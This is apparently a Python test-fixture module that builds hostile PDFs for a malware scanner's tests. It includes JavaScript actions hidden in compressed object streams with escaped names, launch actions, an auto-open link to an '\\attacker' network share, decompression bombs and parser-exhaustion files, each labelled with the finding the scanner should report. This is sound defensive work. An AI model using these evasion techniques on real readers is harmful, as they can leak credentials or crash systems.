"""Hostile PDFs, written byte by byte, for the scanner tests and ``bench/scan.py``.

Each builder returns the file's bytes. The object-stream files hide the catalog
(with its ``/OpenAction``) and the JavaScript action inside a compressed object
stream, reachable only through a cross-reference stream: what a reader follows,
and what the old byte-level regular expressions could not see.
"""

import base64
import io
import zlib

from PIL import Image

JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


def ascii_hex(data: bytes) -> bytes:
    return data.hex().upper().encode() + b">"


def ascii85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


ENCODERS = {
    b"/FlateDecode": zlib.compress,
    b"/ASCIIHexDecode": ascii_hex,
    b"/ASCII85Decode": ascii85,
}


def encode(data: bytes, filters: list[bytes]) -> bytes:
    """Encode for a /Filter array: the reader applies the first filter first."""
    for name in reversed(filters):
        data = ENCODERS[name](data)
    return data


def stream_object(number: int, dictionary: bytes, data: bytes) -> bytes:
    return (
        b"%d 0 obj\n<< %s /Length %d >>\nstream\n" % (number, dictionary, len(data))
        + data
        + b"\nendstream\nendobj\n"
    )


def plain_object(number: int, body: bytes) -> bytes:
    return b"%d 0 obj\n%s\nendobj\n" % (number, body)


def classic_pdf(objects: dict[int, bytes], *, break_xref: bool = False) -> bytes:
    """Objects with a classic xref table (offsets deliberately wrong if asked)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += plain_object(number, body)
    xref_at = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        offset = offsets.get(number, 0)
        if break_xref:
            offset = (offset * 7 + 13) % (xref_at or 1)
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % size
    out += b"startxref\n%d\n%%%%EOF\n" % (xref_at + 5 if break_xref else xref_at)
    return bytes(out)


def object_stream_pdf(
    filters: list[bytes], *, obfuscate_names=False, raw: bytes | None = None
) -> bytes:
    """Catalog and JavaScript action inside an object stream under ``filters``.

    ``raw`` replaces the encoded object stream (it must then hold the catalog).
    """
    packed = {1: CATALOG} if raw is not None else {1: CATALOG, 4: JS_ACTION}
    if obfuscate_names:
        packed[4] = packed[4].replace(b"/JavaScript", b"/J#61vaScr#69pt")
    header, body = b"", b""
    for number, obj in packed.items():
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    filter_array = b"[" + b" ".join(filters) + b"]"
    objstm = raw if raw is not None else encode(header + body, filters)

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in ((2, PAGES), (3, PAGE)):
        offsets[number] = len(out)
        out += plain_object(number, obj)
    offsets[5] = len(out)
    out += stream_object(
        5,
        b"/Type /ObjStm /N %d /First %d /Filter %s"
        % (len(packed), len(header), filter_array),
        objstm,
    )
    offsets[6] = len(out)
    rows = [(0, 0, 65535)]
    index = {number: position for position, number in enumerate(packed)}
    for number in range(1, 7):
        if number == 4 and number not in packed:
            rows.append((0, 0, 0))
            continue
        if number in packed:
            rows.append((2, 5, index[number]))
        else:
            rows.append((1, offsets[number], 0))
    table = b"".join(
        bytes([kind]) + field.to_bytes(4, "big") + extra.to_bytes(2, "big")
        for kind, field, extra in rows
    )
    out += stream_object(6, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R", table)
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def stream_flood(size: int) -> bytes:
    """The file that held a worker for 30 s: ``stream`` tokens, no ``endstream``."""
    unit = b"stream\r\n"
    return b"%PDF-1.7\n" + unit * (size // len(unit))


def nested_arrays(depth: int) -> bytes:
    body = b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * depth + b"]" * depth
    return classic_pdf({1: body + b" >>", 2: PAGES, 3: PAGE})


def broken_xref_with_javascript() -> bytes:
    return classic_pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: JS_ACTION}, break_xref=True)


def launch_action() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (x) >> >>"
    return classic_pdf({1: catalog, 2: PAGES, 3: PAGE})


def remote_file_on_opening() -> bytes:
    """Opens a file on a network share as soon as the document opens."""
    action = b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    return classic_pdf({1: catalog, 2: PAGES, 3: PAGE, 4: action})


def web_address_on_opening() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    action = b"<< /S /URI /URI (https://tracker.example/opened) >>"
    return classic_pdf({1: catalog, 2: PAGES, 3: PAGE, 4: action})


def clickable_web_link() -> bytes:
    """A link the reader may click: named, but not as opening by itself."""
    link = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] "
        b"/A << /S /URI /URI (https://hospital.example/) >> >>"
    )
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    return classic_pdf({1: catalog, 2: PAGES, 3: page, 4: link})


def embedded_file() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>"
    return classic_pdf({1: catalog, 2: PAGES, 3: PAGE, 4: b"<< /Names [] >>"})


def xfa_form() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA [] /Fields [] >> >>"
    return classic_pdf({1: catalog, 2: PAGES, 3: PAGE})


def plain_document() -> bytes:
    return classic_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES, 3: PAGE})


def scanned_pages(pages: int = 100) -> bytes:
    """A 100-page scan as a scanner app writes it: one JPEG per page."""
    # Grey pages with a little sensor noise: they compress like real scans.
    distinct = [
        Image.eval(
            Image.effect_noise((850, 1100), 6 + number).convert("L"),
            lambda value: 200 + value // 8,
        )
        for number in range(5)
    ]
    images = [distinct[number % 5] for number in range(pages)]
    buffer = io.BytesIO()
    images[0].save(
        buffer, "PDF", save_all=True, append_images=images[1:], resolution=100
    )
    return buffer.getvalue()


def object_stream_bomb(megabytes: int) -> bytes:
    """The catalog in an object stream that inflates to ``megabytes`` of zeros."""
    compressor = zlib.compressobj(9)
    chunk = b"\x00" * (1024 * 1024)
    header = b"1 0 "
    data = compressor.compress(header + CATALOG + b"\n")
    data += b"".join(compressor.compress(chunk) for _ in range(megabytes))
    return object_stream_pdf([b"/FlateDecode"], raw=data + compressor.flush())


# name -> (builder, what the scanner must report: a finding, "clean", "unreadable")
CORPUS = {
    "stream flood 150 KB": (lambda: stream_flood(150 * 1024), "unreadable"),
    "stream flood 4 MB": (lambda: stream_flood(4 * 1024 * 1024), "unreadable"),
    "object stream, FlateDecode": (
        lambda: object_stream_pdf([b"/FlateDecode"]),
        "JavaScript",
    ),
    "object stream, ASCIIHexDecode": (
        lambda: object_stream_pdf([b"/ASCIIHexDecode"]),
        "JavaScript",
    ),
    "object stream, ASCII85Decode": (
        lambda: object_stream_pdf([b"/ASCII85Decode"]),
        "JavaScript",
    ),
    "object stream, ASCII85 + Flate": (
        lambda: object_stream_pdf([b"/ASCII85Decode", b"/FlateDecode"]),
        "JavaScript",
    ),
    "object stream, hex + ASCII85 + Flate": (
        lambda: object_stream_pdf(
            [b"/ASCIIHexDecode", b"/ASCII85Decode", b"/FlateDecode"]
        ),
        "JavaScript",
    ),
    "object stream, escaped names": (
        lambda: object_stream_pdf([b"/FlateDecode"], obfuscate_names=True),
        "JavaScript",
    ),
    "deep nesting (100,000 arrays)": (lambda: nested_arrays(100_000), "unreadable"),
    "deep nesting (400 arrays)": (lambda: nested_arrays(400), "clean"),
    "broken xref": (broken_xref_with_javascript, "JavaScript"),
    "launch action": (launch_action, "launch action"),
    "remote file (UNC) on opening": (remote_file_on_opening, "link to another file"),
    "web address on opening": (
        web_address_on_opening,
        "opens a web address automatically",
    ),
    "clickable web link": (clickable_web_link, "web address"),
    "embedded file": (embedded_file, "embedded file"),
    "XFA form": (xfa_form, "XFA form"),
    "plain document": (plain_document, "clean"),
    "100-page scan": (scanned_pages, "clean"),
    "object stream inflating to 400 MB": (
        lambda: object_stream_bomb(400),
        "unreadable",
    ),
}
